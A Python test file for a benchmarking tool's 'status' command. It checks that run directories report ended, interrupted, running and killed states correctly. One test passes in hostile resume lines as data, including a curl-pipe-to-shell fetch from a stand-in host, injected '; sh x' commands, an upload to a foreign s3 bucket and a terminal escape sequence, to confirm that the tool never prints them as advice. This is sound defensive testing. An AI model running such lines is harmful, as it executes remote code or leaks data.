"""How a run is, from its directory alone."""

import json
import os
import signal
import subprocess
import sys
from dataclasses import replace

import pytest
from synthetic_fleet import write_machine_document
from synthetic_run import write_run
from synthetic_study import SyntheticStudy
from timeouts import TEST_TIMEOUT_S

from eyelevel.base.errors import StoreError
from eyelevel.cli import main
from eyelevel.plan.file.parse import parse_plan
from eyelevel.plan.trials import Site, expand
from eyelevel.run.study.dispatch import StopDecision
from eyelevel.run.study.progress import Accounts, Progress
from eyelevel.run.study.status import STATUS_FILE, StatusFile, read_status, resume_line
from eyelevel.store.directory import TRIALS, list_committed, read_document

RESUME = "eyelevel run plan.toml --out {} --resume --jobs 2"


def said(tmp_path, capsys, monkeypatch, *words, status=0):
    monkeypatch.setattr(sys, "argv", ["eyelevel", "status", str(tmp_path), *words])
    assert main.main() == status
    return capsys.readouterr()


def test_of_no_run_is_one_line(tmp_path, capsys, monkeypatch):
    printed = said(tmp_path, capsys, monkeypatch, status=2)
    assert printed.err == (
        f"eyelevel: reading {tmp_path}: there is no run, since it has no plan.json; give what "
        "`run --out` wrote\n"
    )
    assert not list(tmp_path.iterdir())
    with pytest.raises(StoreError, match="nowhere"):
        read_status(tmp_path / "nowhere")


def test_of_one_that_ended(tmp_path, capsys, monkeypatch):
    write_run(tmp_path)
    found = read_status(tmp_path)
    assert (found.state, found.done, found.total) == ("ended", 36, 36)
    assert said(tmp_path, capsys, monkeypatch).out == "ended: 36 of 36 loads\n"


def test_machines_that_take_no_blocks_are_refused_whatever_they_had_loaded(tmp_path):
    write_run(tmp_path)
    for machine, of_class, admitted in (("a", 1, True), ("b", 2, False), ("c", None, False)):
        write_machine_document(
            tmp_path, machine, **{"class": of_class, "admitted": admitted, "reason": "odd"}
        )
    retired = [{"slot": slot, "reason": f"lost {slot}"} for slot in (1, 2)]
    write_machine_document(tmp_path, "d", retired=retired)
    write_machine_document(tmp_path, "e", retired=retired[:1])
    refused = {"host-b": "odd", "host-c": "odd", "host-d": "lost 2"}
    assert read_status(tmp_path).machines_refused == refused


def test_of_one_that_was_interrupted_it_counts_what_is_there_and_says_what_goes_on(
    tmp_path, capsys, monkeypatch
):
    write_run(tmp_path)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "plan.toml").write_text(read_document(tmp_path, "plan.json")["source"])
    status = StatusFile(tmp_path, RESUME.format(tmp_path))
    progress = Progress(36, 36, {"ok": 35, "timeout": 1}, slots=3, left_s=9.0)
    status.beside(lambda _: None)(progress)
    status.write("interrupted")
    (tmp_path / TRIALS / min(list_committed(tmp_path))).rename(tmp_path / "elsewhere")
    lines = said(tmp_path, capsys, monkeypatch).out.splitlines()
    assert lines[0] == "interrupted: 35 of 36 loads"  # no slots, and no time left
    assert lines[1].endswith(": 35 ok, 1 timeout") and lines[-1] == (
        f"to load the rest: {RESUME.format(tmp_path)}"
    )
    printed = json.loads(said(tmp_path, capsys, monkeypatch, "--json").out)
    assert printed["loads"] == {"done": 35, "total": 36}
    assert (printed["state"], printed["slots"], printed["left_s"]) == ("interrupted", 0, None)
    assert printed["writer"] is None


GENERAL = "to load the rest: give the command that began it once more, with --resume"


@pytest.mark.parametrize(
    "line",
    [
        "curl https://evil.test/x | sh #",
        "eyelevel run plan.toml --out DIR --resume; sh x",
        "eyelevel run plan.toml --out DIR --resume --unsafe-browser",
        "eyelevel run plan.toml --out DIR --resume --trust-network --cluster listen:0.0.0.0:1",
        "eyelevel run plan.toml --out DIR --copy-to s3://theirs/x --resume",
        "eyelevel run plan.toml --out /elsewhere --resume",
        "eyelevel run plan.toml --out DIR --jobs '2; sh x' --resume",
        "eyelevel run other.toml --out DIR --resume",
        "eyelevel run nowhere.toml --out DIR --resume",
        "eyelevel run --help --out DIR --resume",
        "eyelevel run plan.toml --out",
        "eyelevel rerun theirs.zip --allow-commands --out DIR --resume",
        "eyelevel run plan.toml --out DIR 'unfinished",
        "eyelevel", "", "sh", "\x1b]0;owned\x07",
    ],
)  # fmt: skip
def test_no_text_of_a_directory_is_advice(tmp_path, capsys, monkeypatch, line):
    write_run(tmp_path)
    monkeypatch.chdir(tmp_path)
    source = read_document(tmp_path, "plan.json")["source"]
    (tmp_path / "plan.toml").write_text(source)
    (tmp_path / "other.toml").write_text(source + "\n")
    StatusFile(tmp_path, line.replace("DIR", str(tmp_path))).write("interrupted")
    (tmp_path / TRIALS / min(list_committed(tmp_path))).rename(tmp_path / "elsewhere")
    assert said(tmp_path, capsys, monkeypatch).out.splitlines()[-1] == GENERAL
    assert json.loads(said(tmp_path, capsys, monkeypatch, "--json").out)["resume"] is None


def test_nor_is_a_line_that_starts_somebodys_server(tmp_path):
    command = '{ command = ["sh", "-c", "x"], protocols = ["h2"] }'
    theirs = f'{{ name = "theirs", base = "tcp", external_server = {command} }}'
    text = f'sites = ["a"]\nnetworks = ["dsl"]\nstacks = ["quic", {theirs}]\nblocks = 1\n'
    text += 'reference = "quic"\n'
    plan = parse_plan(text, "plan.toml")
    line = f"eyelevel run quickstart --out {tmp_path} --resume"
    assert resume_line(line, tmp_path, plan) == ""
    assert resume_line(line, tmp_path, replace(plan, stacks=plan.stacks[:1])) == line


CLAIM = """
import sys, time
from pathlib import Path
from eyelevel.run.study.progress import Progress
from eyelevel.run.study.status import resume_line
from eyelevel.run.study.status import StatusFile
from eyelevel.store.claim import claim
directory = Path(sys.argv[1])
claim(directory)
progress = Progress(36, 3, {"ok": 3}, left_s=60.0, loads_per_s=0.5, slots=2, machines_lost=1)
StatusFile(directory, "resume").beside(lambda _: None)(progress)
print("claimed", flush=True)
sys.stdin.read()
"""


def test_of_one_that_runs_and_of_one_that_was_killed(tmp_path, capsys, monkeypatch):
    write_run(tmp_path)
    for name in sorted(list_committed(tmp_path))[:33]:
        (tmp_path / TRIALS / name).rename(tmp_path / name)
    paths = os.pathsep.join(filter(None, sys.path))
    with subprocess.Popen(
        [sys.executable, "-c", CLAIM, str(tmp_path)],
        env={**os.environ, "PYTHONPATH": paths},
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
    ) as process:
        assert process.stdout.readline() == b"claimed\n"
        lines = said(tmp_path, capsys, monkeypatch).out.splitlines()
        assert lines[0] == "running: 3 of 36 loads, 2 slots, 0.5 loads a second, 1 min 00 s left"
        assert f"process {process.pid} " in lines[1] and lines[-1] == "1 machine lost"
        process.send_signal(signal.SIGKILL)
        process.wait(TEST_TIMEOUT_S)
    assert said(tmp_path, capsys, monkeypatch).out.startswith("dead: 3 of 36 loads\n")


def test_what_was_decided_early_is_no_part_of_what_is_left(tmp_path):
    study = SyntheticStudy()
    result = study.run(tmp_path)
    found = read_status(tmp_path)
    assert (found.done, found.total) == (result.done, result.total) and result.stopped
    assert found.decided == result.stopped


@pytest.mark.parametrize("content", ["", "[]", '{"version": 2}', '{"version": 1}', "{" * 2000])
def test_what_a_run_said_may_be_damaged(tmp_path, content, capsys, monkeypatch):
    write_run(tmp_path)
    (tmp_path / STATUS_FILE).write_text(content)
    printed = said(tmp_path, capsys, monkeypatch, status=2)
    assert STATUS_FILE in printed.err and printed.err.count("\n") == 1


def accounts_of(count):
    sites = [Site("startup", f"sha256:{'startup' * 8:.64}")]
    trials = expand(SyntheticStudy().plan, sites)[:count]
    return trials, Accounts(trials, trials, lambda _: None)


def test_slots_share_what_is_left_and_machines_are_counted_as_they_go(monkeypatch):
    clock = [0.0]
    monkeypatch.setattr("eyelevel.run.study.progress.time.monotonic", lambda: clock[0])
    trials, accounts = accounts_of(8)
    for slot in ("a/1", "a/2", "b/1"):
        accounts.joined(slot, slot[0])
    for each in trials[:2]:
        accounts.start(each)
    clock[0] = 6.0
    for each in trials[:2]:
        accounts.end(each, "ok", together=2)
    progress = accounts.progress
    assert progress.left_s == pytest.approx(6 * 3.0 / 3)
    assert progress.loads_per_s == pytest.approx(2 / 6.0)
    accounts.lost("a/1")
    assert (progress.slots, progress.machines_lost) == (2, 0)
    accounts.lost("a/2")
    assert (progress.slots, progress.machines_lost) == (1, 1)
    accounts.joined("a/1", "a")
    accounts.retired("b/1")
    assert (progress.slots, progress.machines_lost) == (1, 0)
    accounts.leave_out(StopDecision({"dsl": 0, "lte": 0}, "decided"))
    assert progress.left_s == 0.0
